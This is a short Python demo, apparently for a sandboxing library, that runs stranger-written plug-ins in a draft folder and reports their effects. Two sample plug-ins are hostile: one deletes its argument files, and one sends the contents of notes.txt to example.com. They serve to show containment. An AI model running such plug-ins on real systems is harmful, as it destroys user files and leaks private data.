"""A program with plug-ins of strangers: each call of one is a jar, and what it changes in a folder is a draft."""

from __future__ import annotations

import tempfile
from pathlib import Path

import belljar

PLUGINS = {
    "shout.py": "import sys\ntext = open(sys.argv[1]).read()\nopen(sys.argv[1], 'w').write(text.upper())\n",
    "tidy.py": "import os, sys\nfor name in sys.argv[1:]:\n    os.remove(name)\nopen('index.txt', 'w').write('tidy')\n",
    "phone_home.py": "import urllib.request as u\nu.urlopen('http://example.com/' + open('notes.txt').read())\n",
}


def main() -> None:
    with tempfile.TemporaryDirectory() as folder:
        documents, plugins = Path(folder, "documents"), Path(folder, "plugins")
        documents.mkdir()
        plugins.mkdir()
        (documents / "notes.txt").write_text("buy milk")
        for name, source in PLUGINS.items():
            (plugins / name).write_text(source)
        for plugin in sorted(plugins.iterdir()):
            # The plug-in sees the folder and may change it; the folder itself stays as it is.
            outcome = belljar.run_file(plugin, args=["notes.txt"], workdir=documents, draft=True, timeout=10)
            modified, deleted = list(outcome.changes.modified), list(outcome.changes.deleted)
            print(f"{plugin.name}: {outcome.status}, would change {modified}, delete {deleted}")
            if not outcome.ok:
                print("  because:", outcome.for_model().splitlines()[0])
        print("notes.txt:", (documents / "notes.txt").read_text())


if __name__ == "__main__":
    main()
